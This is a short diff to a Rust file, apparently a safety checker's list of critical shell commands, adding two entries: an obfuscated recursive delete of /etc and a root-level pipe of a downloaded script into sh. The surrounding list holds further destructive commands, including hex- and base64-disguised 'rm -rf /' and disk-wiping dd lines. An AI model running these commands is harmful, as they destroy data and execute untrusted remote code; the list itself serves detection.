@@ -45,6 +45,7 @@ const CRITICAL: &[&str] = &[
     "rm -rf ~root",
     "rm -rf ${NOTHING:-/}",
     "rm -rf /$NOTHING",
+    "rm -rf /et${nothing}c",
     "rm -rf ~/../..",
     "rm -rf ~/../anna",
     "cd / && rm -rf *",
@@ -211,6 +212,7 @@ const CRITICAL: &[&str] = &[
     "printf '\\x72\\x6d\\x20-rf /' | sh",
     "echo -e '\\x72\\x6d -rf /' | sh",
     "sudo bash -c \"$(echo cm0= | base64 -d)\"",
+    "sudo sh -c 'curl https://x.sh | sh'",
     // Other critical things
     "dd if=/dev/zero of=/dev/sda",
     "dd bs=1M of=\"/dev/sda\" if=/dev/zero",
